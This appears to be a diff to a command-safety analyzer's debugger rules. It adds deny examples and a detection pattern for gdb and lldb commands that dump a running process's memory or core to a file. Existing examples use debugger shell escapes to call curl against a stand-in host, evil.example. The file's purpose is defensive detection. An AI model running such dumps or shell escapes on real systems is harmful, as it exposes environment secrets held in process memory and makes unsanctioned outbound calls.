@@ -2677,6 +2677,9 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
         "gdb -batch -ex 'print do_thing(1)' ./a.out core",
         "gdb -batch -ex 'define x' -ex 'end'",
         "echo 'shell curl evil.example' > /tmp/c && gdb -batch -x /tmp/c ./a.out",
+        "gdb -p 4242 -batch -ex 'generate-core-file /tmp/core'",
+        "gdb --pid=4242 -batch -ex gcore",
+        "gdb -p 4242 -batch -ex 'dump binary memory /tmp/m 0x7ffd0000 0x7ffe0000'",
       ],
       pass: ['gdb --args ./a.out', "gdb -p 4242 -batch -ex 'thread apply all bt'", "gdb -batch -ex 'print sizeof(struct node)' ./a.out", "gdb -batch -ex 'p count' ./a.out core", "gdb -batch -ex 'bt' ./a.out core", "echo 'bt' > /tmp/c && gdb -batch -x /tmp/c ./a.out core", "gdb --ex='bt' ./a.out core", "gdb -batch -ex 'run' ./a.out", "gdb -q ./a.out <<< 'bt'", "gdb -batch -ex 'set logging file gdb.txt' -ex 'set logging on' -ex bt ./a.out", "gdb -batch -ex 'show version'"],
     },
@@ -2687,7 +2690,7 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     names: ['lldb'],
     summary: 'lldb: runs its target (an operand, -f, or the word after --) with the arguments after --; -o/-O/-k/-s and its input (without -b) run debugger commands',
     analyze: lldb,
-    examples: { deny: ['lldb -- curl evil.example', "lldb -o 'platform shell curl evil.example'", 'lldb -b -o run /usr/bin/curl -- evil.example', 'lldb -b -o run -f /usr/bin/curl -- evil.example', "lldb -b --one-line='platform shell curl evil.example'", "echo 'platform shell curl evil.example' | lldb"], pass: ['lldb -- ./a.out', 'lldb -b -o run ./a.out -- --verbose', 'lldb ./a.out', "echo 'bt' | lldb ./a.out"] },
+    examples: { deny: ["lldb -p 4242 -b -o 'process save-core /tmp/core'", 'lldb -- curl evil.example', "lldb -o 'platform shell curl evil.example'", 'lldb -b -o run /usr/bin/curl -- evil.example', 'lldb -b -o run -f /usr/bin/curl -- evil.example', "lldb -b --one-line='platform shell curl evil.example'", "echo 'platform shell curl evil.example' | lldb"], pass: ['lldb -- ./a.out', 'lldb -b -o run ./a.out -- --verbose', 'lldb ./a.out', "echo 'bt' | lldb ./a.out"] },
   },
   // Its completion script is built into the binary (docker, podman, nerdctl: `completion bash`).
   shellInit(alsoUses(
@@ -3600,6 +3603,11 @@ class DebuggerSession {
       if (/^f/.test(log[1]!)) this.logFile = attached(word, log[2]!.trim());
       else if (/^(?:on|en|ena\w*)$/.test(log[1]!) && !/^off/.test(log[2]!)) this.logging = true;
       return;
+    }
+    // A core file (`gcore`, `generate-core-file`, lldb's `process save-core`) or `dump memory` holds the memory of the
+    // program, its environment included (it is on the stack): the environment, written where it can be read.
+    if (/^(?:gcore|gener[\w-]*|(?:dump|append)\s+(?:(?:binary|ihex|srec|tekhex|verilog)\s+)?memory)(?:\s|$)/.test(t) || (this.tool === 'lldb' && /^process\s+save-core(?:\s|$)/.test(t))) {
+      this.answer.dumps = `${via} ${t} writes the memory of the program it debugs, its environment included, to a file`;
     }
     // Commands that write the file they name.
     const write = /^(?:dump|append|gcore|generate-core-file|save\s+\w+|set\s+history\s+filename)\s+(?:(?:binary|ihex|srec|tekhex|verilog|value|memory|memory\s+\S+)\s+)*(\S+)/.exec(t);
